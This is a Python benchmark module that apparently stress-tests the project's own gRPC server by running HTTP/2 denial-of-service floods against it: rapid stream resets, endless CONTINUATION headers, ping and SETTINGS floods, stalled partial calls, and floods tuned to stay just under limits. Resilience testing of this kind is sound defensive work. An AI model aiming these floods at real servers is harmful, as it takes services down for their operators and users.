"""Attacks by frames of HTTP/2."""

from __future__ import annotations

import asyncio
import itertools
from collections.abc import Iterator
from typing import Final

from benchmarks.scenarios.attacks.client import PIECE, Victim, again, at_once, send
from twophase.grpc_server.http2 import frames

_GREETING: Final = frames.PREFACE + frames.settings({})
_HOLDERS: Final = 60
_STREAMS: Final = 250
_DATA_BYTES: Final = 60_000
_SETTINGS_MAX: Final = 64
_PATIENT: Final = 60
_WITHIN_BOUNDS: Final = 40
_TURN_S: Final = 0.1


def _head(stream: int) -> bytes:
    """Return the headers of a Submit."""
    fields = (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/dtmgimp.Dtm/Submit"), (b":authority", b"127.0.0.1"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers"),
    )  # fmt: skip
    return frames.header_frames(stream, b"".join(frames.field(name, value) for name, value in fields))


_RESET: Final = _GREETING + frames.header_frames(1, frames.field(b"Not-Lower-Case", b"1"))
"""The beginning of a connection whose stream 1 the server resets."""
_WINDOW: Final = frames.window_update(0, 1)
_SETTINGS: Final = frames.frame(frames.SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff" * _SETTINGS_MAX)
_DATA: Final = frames.frame(frames.DATA, 0, 1, b"x")
_HEADERS: Final = _head(1)
_KINDS: Final = (_WINDOW, _SETTINGS, _DATA, _HEADERS)
_EMPTY: Final = frames.frame(frames.DATA, 0, 1)
_CONTINUATION: Final = frames.frame(frames.CONTINUATION, 0, 1)
_PRIORITY: Final = frames.frame(frames.PRIORITY, 0, 1, b"\x00\x00\x00\x03\x10")
_SHORT_SETTINGS: Final = frames.settings({})


async def unfinished_calls(victim: Victim) -> None:
    """Many gRPC connections hold 250 calls each.

    Each call has 60 KB of a message that lacks its end.
    """
    data = (b"\x00" + (65_000).to_bytes(4, "big") + bytes(_DATA_BYTES))[:_DATA_BYTES]
    parts = [data[at : at + 16_384] for at in range(0, len(data), 16_384)]

    def call(stream: int) -> bytes:
        return _head(stream) + b"".join(frames.frame(frames.DATA, 0, stream, part) for part in parts)

    pieces = [_GREETING, *map(call, range(1, 2 * _STREAMS, 2))]
    await at_once(_HOLDERS, lambda: send(victim.grpc, pieces))


async def calls_of_forty_connections(victim: Victim) -> None:
    """Forty gRPC connections send calls that are refused, as fast as they are read."""
    empty = b"\x00" + (0).to_bytes(4, "big")

    def pieces() -> Iterator[bytes]:
        yield _GREETING
        for first in range(1, frames.NUMBER_MAX, 200):
            calls = range(first, first + 200, 2)
            yield b"".join(_head(one) + frames.frame(frames.DATA, frames.END_STREAM, one, empty) for one in calls)

    await at_once(_WITHIN_BOUNDS, lambda: send(victim.grpc, pieces()))


async def pings(victim: Victim) -> None:
    """One gRPC connection sends pings that ask for an answer each."""
    ping = frames.frame(frames.PING, 0, 0, bytes(8))
    await again(lambda: send(victim.grpc, [_GREETING, *[ping * 500] * 1_000]))


async def frames_of_four_kinds(victim: Victim) -> None:
    """Four connections send frames that bring nothing, as fast as they are read.

    The kinds: changes of a window, long SETTINGS, DATA and HEADERS of a stream that was reset.
    """

    async def flood(kind: bytes) -> None:
        await again(lambda: send(victim.grpc, itertools.chain([_RESET], itertools.repeat(kind * (PIECE // len(kind))))))

    await asyncio.gather(*map(flood, _KINDS))


async def frames_below_the_limits(victim: Victim) -> None:
    """Many connections send the same kinds, each fewer than would end it.

    In a second it is 8 000 changes of a window and 240 frames of each of the other kinds.
    """
    turn = _WINDOW * 800 + (_SETTINGS + _DATA + _HEADERS) * 24
    await at_once(_PATIENT, lambda: send(victim.grpc, itertools.chain([_RESET], itertools.repeat(turn)), _TURN_S))


async def frames_of_five_kinds(victim: Victim) -> None:
    """Five connections send frames that are cheap to send, as fast as they are read.

    The kinds: calls that are cancelled at once, headers that never end, empty DATA of an open call, changes of a
    priority, and SETTINGS that are to be acknowledged.
    """
    unfinished = frames.frame(frames.HEADERS, 0, 1, frames.field(b":method", b"POST"))
    kinds = ((_HEADERS, _EMPTY), (unfinished, _CONTINUATION), (b"", _PRIORITY), (b"", _SHORT_SETTINGS))

    async def flood(opening: bytes, kind: bytes) -> None:
        pieces = itertools.repeat(kind * (PIECE // len(kind)))
        await again(lambda: send(victim.grpc, itertools.chain([_GREETING + opening], pieces)))

    resets = again(lambda: send(victim.grpc, itertools.chain([_GREETING], _cancelled())))
    await asyncio.gather(resets, *(flood(*kind) for kind in kinds))


def _cancelled() -> Iterator[bytes]:
    """Yield calls, each with its end."""
    for first in itertools.count(1, 200):
        streams = range(first, first + 200, 2)
        yield b"".join(_head(stream) + frames.reset(stream, frames.CANCEL) for stream in streams)
